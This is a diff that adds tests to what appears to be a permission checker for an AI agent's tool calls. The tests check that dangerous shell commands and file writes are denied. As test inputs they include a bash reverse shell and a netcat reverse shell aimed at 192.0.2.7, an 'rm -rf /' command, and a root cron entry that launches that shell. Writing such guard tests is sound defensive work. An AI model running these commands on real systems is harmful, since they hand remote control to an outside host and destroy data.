@@ -154,6 +154,21 @@ describe('writes', () => {
   })
 })
 
+describe('calls that carry commands or files', () => {
+  test('a shell tool is judged by its command, as a text or as words', () => {
+    expect(last(call('bash', { command: 'bash -i >& /dev/tcp/192.0.2.7/9 0>&1' }))).toBe('deny')
+    expect(last(call('process.run', { args: ['rm', '-rf', '/'] }))).toBe('deny')
+    expect(last(call('bash', { command: "echo 'rm -rf /'" }))).toBe('allow')
+    expect(last(call('search', { query: 'rm -rf /' }))).toBe('allow')
+  })
+
+  test('a tool that writes files is judged by the file', () => {
+    expect(last(call('write_file', { path: 'CLAUDE.md', content: 'x' }))).toBe('ask')
+    expect(last(call('write_file', { path: 'a.sh', content: 'nc 192.0.2.7 9 -e sh' }))).toBe('deny')
+    expect(last(write('/etc/cron.d/x', '* * * * * root nc 192.0.2.7 9 -e sh'))).toBe('deny')
+  })
+})
+
 describe('behaviour', () => {
   test('targets other than the ones the user named are asked about', () => {
     const asked = task('Please delete VMs 1-3, we do not need them')
